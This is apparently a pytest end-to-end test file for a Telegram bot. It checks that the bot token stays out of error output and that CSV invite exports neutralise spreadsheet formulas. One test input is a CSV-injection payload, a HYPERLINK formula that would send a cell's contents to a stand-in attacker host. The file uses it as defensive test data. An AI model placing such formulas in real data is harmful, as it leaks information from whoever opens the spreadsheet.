"""Issue 14 at the command line: the token never printed (#1), CSV without live formulas (#4)."""

from __future__ import annotations

import csv
import io

import pytest

from bot.csv_output import neutralise
from tests.support.bot_process import TOKEN, summitbot, write_config
from tests.support.summit_files import to_csv

pytestmark = pytest.mark.e2e

SECRET = TOKEN.split(":", 1)[1]


def config_with_wrong_path(tmp_path, emulator):
    """A valid-looking token and an api_base_url whose path is wrong: every call is a 404,
    which python-telegram-bot reports as InvalidToken, quoting the token."""
    wrong = emulator.api_base_url.replace("/bot", "/wrong/path/bot")
    return write_config(tmp_path, wrong)


@pytest.mark.parametrize("command", [["invites"], ["run"]])
async def test_the_token_is_not_printed_when_telegram_rejects_it(tmp_path, emulator, command):
    config = config_with_wrong_path(tmp_path, emulator)
    (tmp_path / "delegates.csv").write_bytes(
        to_csv([["id", "name", "delegation"], ["alice", "Alice", "Xandria"]])
    )
    assert (
        await summitbot("import", "--config", str(config), str(tmp_path / "delegates.csv"))
    ).code == 0
    result = await summitbot(*command, "--config", str(config), timeout=60)
    assert result.code == 2, result
    output = result.stdout + result.stderr
    assert "telegram.token" in output or "Telegram refused" in output, output
    assert SECRET not in output and TOKEN not in output, output
    assert "<token>" in output  # the text is still useful: it says where the token was


async def test_invites_csv_has_no_live_formula(tmp_path, emulator):
    config = write_config(tmp_path, emulator.api_base_url)
    hostile = '=HYPERLINK("https://evil.example/?c="&C2,"Open")'
    # (A leading tab or CR does not survive the importer's trimming; see the unit test.)
    names = [hostile, "+1 Delegate", "-2 Delegate", "@SUM(A1)", "Plain"]
    rows = [["id", "name", "delegation"]] + [
        [f"d{i}", name, "Xandria"] for i, name in enumerate(names)
    ]
    (tmp_path / "delegates.csv").write_bytes(to_csv(rows))
    assert (
        await summitbot("import", "--config", str(config), str(tmp_path / "delegates.csv"))
    ).code == 0
    result = await summitbot("invites", "--config", str(config))
    assert result.code == 0, result.stderr
    printed = {row["delegate_id"]: row for row in csv.DictReader(io.StringIO(result.stdout))}
    for i, name in enumerate(names):
        cell = printed[f"d{i}"]["name"]
        if name == "Plain":
            assert cell == "Plain"
        else:
            assert cell == "'" + name, cell
        for value in printed[f"d{i}"].values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
        assert not printed[f"d{i}"]["code"].startswith("'")  # codes stay usable as printed


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+49 30", "'+49 30"),
        ("-x", "'-x"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Alice", "Alice"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_every_formula_start_is_neutralised(value, expected):
    assert neutralise(value) == expected
